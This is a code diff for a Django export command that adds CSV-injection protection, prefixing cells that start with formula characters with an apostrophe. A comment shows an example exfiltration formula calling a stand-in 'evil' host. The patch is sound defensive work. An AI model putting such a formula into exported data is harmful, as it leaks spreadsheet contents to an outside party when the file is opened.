@@ -47,6 +47,20 @@ def _silence_stdout() -> None:
         pass
 
 
+# A spreadsheet runs a cell that starts with one of these as a formula
+# (=HYPERLINK("https://evil/?d="&B2) sends the neighbouring cells away when opened).
+FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_safe(value):
+    """A cell value a spreadsheet shows as text: visitors' words starting with a formula
+    character get a leading ``'`` (OWASP's advice for CSV injection). JSON Lines is
+    written as is."""
+    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
+        return "'" + value
+    return value
+
+
 class _RawWriter:
     """A command's stdout (which appends a newline to each write) as a plain stream."""
 
@@ -83,8 +97,8 @@ class Command(BaseCommand):
             "--format",
             choices=["jsonl", "csv"],
             default="jsonl",
-            help="jsonl: one JSON object per line; csv: a header row, sources as JSON text. "
-            "Default: %(default)s.",
+            help="jsonl: one JSON object per line; csv: a header row, sources as JSON text, "
+            "cells starting with = + - @ (formulas) prefixed with '. Default: %(default)s.",
         )
         parser.add_argument(
             "--output",
@@ -156,7 +170,7 @@ class Command(BaseCommand):
             for record in batch:
                 if format == "csv":
                     record["sources"] = json.dumps(record["sources"], ensure_ascii=False)
-                    writer.writerow(record)
+                    writer.writerow({key: csv_safe(value) for key, value in record.items()})
                 else:
                     stream.write(json.dumps(record, ensure_ascii=False) + "\n")
             written += len(batch)
